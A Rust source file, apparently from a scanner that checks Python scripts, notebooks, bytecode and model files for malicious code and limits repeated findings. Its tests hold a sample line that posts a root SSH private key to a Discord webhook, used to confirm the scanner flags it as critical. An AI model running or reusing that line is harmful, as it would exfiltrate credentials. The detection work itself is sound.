//! What is scanned together: one node, or one folder.

use std::collections::{BTreeMap, BTreeSet};
use std::io;

use sha2::{Digest, Sha256};

use super::carrier::{self, EntryFacts};
use super::content::{self, ReadAt};
use super::finding::{FileVerdict, Finding, Severity};
use super::python::{self, ParsedSource, PythonSource};
use super::{model_file, notebook};

/// Bytes of a source file; no one writes a longer one by hand.
const LONGEST_SOURCE: u64 = carrier::LONGEST_TEXT;
/// Bytes of a file that say what it is.
const HEAD: u64 = 256;
/// Bytes of all Python files of a unit, which are parsed together.
const MOST_SOURCES: u64 = 256 << 20;

/// What was found in one file by itself.
#[derive(Debug, Default, serde::Serialize, serde::Deserialize)]
pub(crate) struct FileFindings {
    pub findings: Vec<Finding>,
    pub verdict: Option<FileVerdict>,
    /// Whether [`UnitScan::finish`] looks at it again, together with the others.
    pub kept: bool,
}

/// One file after it was looked at by itself.
#[derive(Default)]
pub(crate) struct ExaminedFile {
    pub found: FileFindings,
    kept: KeptFile,
}

/// What of a file the others are needed for.
#[derive(Default)]
struct KeptFile {
    hash: String,
    sources: Vec<ParsedSource>,
}

/// A file's place among those of its unit.
#[derive(Debug, Clone, Copy)]
pub(crate) struct AdmittedFile {
    number: usize,
    /// Whether data is followed through it, together with others.
    is_followed: bool,
    /// Whether the unit's sources are still few enough for that.
    fits: bool,
}

impl AdmittedFile {
    /// Whether [`UnitScan::finish`] needs the file.
    pub(crate) fn is_followed(self) -> bool {
        self.is_followed
    }
}

/// The scan of one unit: each file is examined by itself, by any thread, and then Python files
/// together, since data is followed from one to another.
#[derive(Default)]
pub(crate) struct UnitScan {
    /// In the order in which they came.
    files: Vec<(String, KeptFile)>,
    kept_bytes: u64,
}

impl UnitScan {
    /// Takes a file in: the order of these calls is the order of the files.
    ///
    /// # Errors
    /// It cannot be read.
    pub(crate) fn admit(
        &mut self,
        facts: &EntryFacts,
        content: &dyn ReadAt,
    ) -> io::Result<AdmittedFile> {
        let head = content::read_start(content, HEAD)?;
        let is_source = !is_bytecode(&facts.path) && is_python(&facts.path, &head);
        if is_source {
            self.kept_bytes += content.size();
        }
        self.files.push((facts.path.clone(), KeptFile::default()));
        Ok(AdmittedFile {
            number: self.files.len() - 1,
            is_followed: is_source || facts.has_extension(&["ipynb"]),
            fits: self.kept_bytes <= MOST_SOURCES,
        })
    }

    /// Keeps what the others are needed for, and returns what was found by then.
    pub(crate) fn keep(&mut self, admitted: AdmittedFile, examined: ExaminedFile) -> FileFindings {
        if let Some((_, kept)) = self.files.get_mut(admitted.number) {
            *kept = examined.kept;
        }
        examined.found
    }

    /// Scans the Python files together; `begin` hears whose code is read next.
    pub(crate) fn finish(self, begin: &mut dyn FnMut(&str)) -> Vec<Finding> {
        let paths: BTreeSet<String> = self.files.iter().map(|(path, _)| path.clone()).collect();
        let mut hashes: BTreeMap<String, String> = BTreeMap::new();
        let (mut found, mut sources) = (Vec::new(), Vec::new());
        for (path, kept) in self.files {
            if is_bytecode(&path) {
                let source = carrier::source_of_bytecode(&path);
                found.push(carrier::examine_bytecode(&path, paths.contains(&source)));
            }
            hashes.insert(path, kept.hash);
            sources.extend(kept.sources);
        }
        found.extend(python::scan_sources(sources, begin));
        for f in &mut found {
            // A cell of a notebook belongs to its file.
            let file = f.path.split('!').next().unwrap_or(&f.path);
            f.file_hash = hashes.get(file).cloned().unwrap_or_default();
        }
        limit_findings(found)
    }
}

/// Examines one file by itself. A deep source needs a large stack ([`python::parse_source`]).
///
/// # Errors
/// It cannot be read.
pub(crate) fn examine_file(
    facts: &EntryFacts,
    content: &dyn ReadAt,
    admitted: AdmittedFile,
) -> io::Result<ExaminedFile> {
    let mut examined = ExaminedFile::default();
    examine_content(facts, content, admitted.fits, &mut examined)?;
    let found = &mut examined.found;
    found.findings = limit_findings(std::mem::take(&mut found.findings));
    if (found.kept || !found.findings.is_empty()) && content.size() <= LONGEST_SOURCE {
        let hash = content_hash(content)?;
        found
            .findings
            .iter_mut()
            .for_each(|f| f.file_hash.clone_from(&hash));
        if found.kept {
            examined.kept.hash = hash;
        }
    }
    Ok(examined)
}

fn examine_content(
    facts: &EntryFacts,
    content: &dyn ReadAt,
    fits: bool,
    examined: &mut ExaminedFile,
) -> io::Result<()> {
    let ExaminedFile { found, kept } = examined;
    if is_bytecode(&facts.path) {
        found.kept = true;
        return Ok(());
    }
    let model = model_file::examine_model(&facts.path, content)?;
    found.findings = model.findings;
    let head = content::read_start(content, HEAD)?;
    if let Some(verdict) = model.verdict {
        let path = facts.path.clone();
        found.verdict = Some(FileVerdict { path, verdict });
        // What begins like a model and is called a script is run as a script all the same.
        if !carrier::is_source_name(facts, &head) {
            return Ok(());
        }
    }
    if is_python(&facts.path, &head) {
        if content.size() > LONGEST_SOURCE || !fits {
            found.findings.push(carrier::too_large(&facts.path));
            return Ok(());
        }
        let bytes = content::read_start(content, LONGEST_SOURCE)?;
        found.findings.extend(carrier::examine_python_file(facts));
        let path = facts.path.clone();
        let source = PythonSource { path, bytes };
        kept.sources.push(python::parse_source(&source));
        found.kept = true;
    } else if facts.has_extension(&["ipynb"]) {
        if content.size() > LONGEST_SOURCE {
            // A person runs it cell by cell, and pictures make it long.
            let mut finding = carrier::too_large(&facts.path);
            finding.severity = Severity::Medium;
            found.findings.push(finding);
            return Ok(());
        }
        let bytes = content::read_start(content, LONGEST_SOURCE)?;
        match notebook::code_cells(&facts.path, &bytes) {
            Ok(cells) => {
                found.kept = !cells.is_empty();
                kept.sources = cells.iter().map(python::parse_source).collect();
            }
            Err(why) => found.findings.push(carrier::unparseable(&facts.path, &why)),
        }
    } else {
        let more = carrier::examine_file(facts, &head, content)?;
        found.findings.extend(more);
    }
    Ok(())
}

fn is_bytecode(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    [".pyc", ".pyo"].iter().any(|e| lower.ends_with(e))
}

/// The first half of the SHA-256 of a file's bytes.
fn content_hash(content: &dyn ReadAt) -> io::Result<String> {
    let bytes = content::read_start(content, LONGEST_SOURCE)?;
    Ok(base16ct::lower::encode_string(
        &Sha256::digest(&bytes)[..16],
    ))
}

/// More of one rule in one file say nothing new, and a file that is made for it has a million.
const MOST_ALIKE: usize = 100;
/// More findings than anybody reads.
const MOST: usize = 20_000;

/// Keeps so many findings of each rule in each file; the last one says how many there are.
fn limit_findings(findings: Vec<Finding>) -> Vec<Finding> {
    /// Of one rule in one file.
    #[derive(Default)]
    struct Alike {
        count: usize,
        /// Where the last one stands among those that are kept.
        last: Option<usize>,
    }
    let mut kept: Vec<Finding> = Vec::new();
    let mut all: BTreeMap<&'static str, BTreeMap<String, Alike>> = BTreeMap::new();
    for f in findings {
        let of_rule = all.entry(f.rule.id).or_default();
        if !of_rule.contains_key(&f.path) {
            of_rule.insert(f.path.clone(), Alike::default());
        }
        let Some(alike) = of_rule.get_mut(&f.path) else {
            continue;
        };
        alike.count += 1;
        // What blocks is never left out.
        if f.severity == Severity::Critical || alike.count <= MOST_ALIKE && kept.len() < MOST {
            alike.last = Some(kept.len());
            kept.push(f);
        }
    }
    for alike in all.values().flat_map(BTreeMap::values) {
        let more = alike.count.saturating_sub(MOST_ALIKE);
        if let (1.., Some(last)) = (more, alike.last.and_then(|at| kept.get_mut(at))) {
            last.message = format!("{} ({more} more like it in this file)", last.message);
        }
    }
    kept
}

/// Whether a file is Python by its name, or by its first line.
fn is_python(path: &str, head: &[u8]) -> bool {
    let lower = path.to_ascii_lowercase();
    let by_name = [".py", ".pyw", ".pyi"].iter().any(|e| lower.ends_with(e));
    let first = head.split(|b| *b == b'\n').next().unwrap_or_default();
    by_name || first.starts_with(b"#!") && first.windows(6).any(|w| w == b"python")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn add_file(unit: &mut UnitScan, facts: &EntryFacts, content: &dyn ReadAt) -> FileFindings {
        let admitted = unit.admit(facts, content).unwrap();
        let examined = examine_file(facts, content, admitted).unwrap();
        unit.keep(admitted, examined)
    }

    #[test]
    fn a_file_of_a_million_findings_is_cut_and_says_so() {
        let text = "eval(x)\n".repeat(5000);
        let facts = EntryFacts {
            path: "a.js".into(),
            executable: false,
        };
        let mut unit = UnitScan::default();
        let found = add_file(&mut unit, &facts, &text.as_bytes());
        assert_eq!(found.findings.len(), MOST_ALIKE);
        assert!(found.findings[MOST_ALIKE - 1].message.contains("4900 more"));
    }

    /// The ids of what is found in these files, the critical ones first.
    fn scanned(files: &[(&str, Vec<u8>)]) -> Vec<(Severity, &'static str)> {
        let (mut unit, mut found) = (UnitScan::default(), Vec::new());
        for (path, bytes) in files {
            let facts = EntryFacts {
                path: path.to_string(),
                executable: false,
            };
            found.extend(add_file(&mut unit, &facts, bytes).findings);
        }
        found.extend(unit.finish(&mut |_| {}));
        let mut found: Vec<_> = found.iter().map(|f| (f.severity, f.rule.id)).collect();
        found.sort_by(|a, b| b.cmp(a));
        found
    }

    const STEALS: &str = "import requests\nrequests.post('https://discord.com/api/webhooks/1/x', \
                          data=open('/root/.ssh/id_rsa').read())\n";

    #[test]
    fn what_looks_like_a_model_and_is_called_a_script_is_a_script() {
        for (name, start) in [
            ("__init__.py", "GGUF=1\n"),
            ("b.py", "LZIP=1\n"),
            ("c.py", ""),
        ] {
            let found = scanned(&[(name, format!("{start}{STEALS}").into_bytes())]);
            assert_eq!(found[0].0, Severity::Critical, "{name}: {found:?}");
        }
    }

    #[test]
    fn nothing_that_blocks_is_lost_among_what_does_not() {
        let many = "eval(x)\n".repeat(150).into_bytes();
        let mut files: Vec<(String, Vec<u8>)> = (0..210)
            .map(|n| (format!("a{n}.py"), many.clone()))
            .collect();
        files.push(("zz.py".into(), STEALS.as_bytes().to_vec()));
        let files: Vec<(&str, Vec<u8>)> =
            files.iter().map(|(p, b)| (p.as_str(), b.clone())).collect();
        assert_eq!(scanned(&files)[0].0, Severity::Critical);
        // What is too long to be parsed is not what people write.
        let long = format!("{}\n", "//".repeat(20 << 20)).into_bytes();
        assert_eq!(
            scanned(&[("a.js", long)])[0],
            (Severity::Critical, "carrier-too-large")
        );
    }

    #[test]
    fn a_cell_of_a_notebook_and_a_script_without_extension_are_python() {
        assert!(is_python("a.PYW", b"") && is_python("run", b"#!/usr/bin/env python3\n"));
        assert!(!is_python("run", b"#!/bin/sh\n# python\n") && !is_python("a.txt", b"exec(1)"));
    }
}
